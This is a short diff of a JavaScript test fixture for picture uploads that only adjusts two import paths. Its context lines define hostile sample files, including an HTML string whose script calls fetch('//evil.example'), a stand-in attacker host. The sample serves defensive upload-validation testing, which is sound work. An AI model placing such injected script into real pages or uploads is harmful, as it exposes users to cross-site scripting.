@@ -1,8 +1,8 @@
 import { gzipSync } from "node:zlib";
 import sharp from "sharp";
-import { samplePictures } from "../../tests/setup/pictures.mjs";
+import { samplePictures } from "../../../tests/setup/pictures.mjs";
 
-/** @typedef {import("../../worker/domain/media/picture-purposes.ts").PicturePurposeName} Purpose */
+/** @typedef {import("../../../worker/domain/media/picture-purposes.ts").PicturePurposeName} Purpose */
 /** `isAccepted` null: either, as long as what is stored is harmless. @typedef {{ name: string, purpose: Purpose, type: string, bytes: Uint8Array<ArrayBuffer>, isAccepted: boolean | null }} HostileFile */
 
 const HTML = "<!doctype html><script>fetch('//evil.example')</script>";
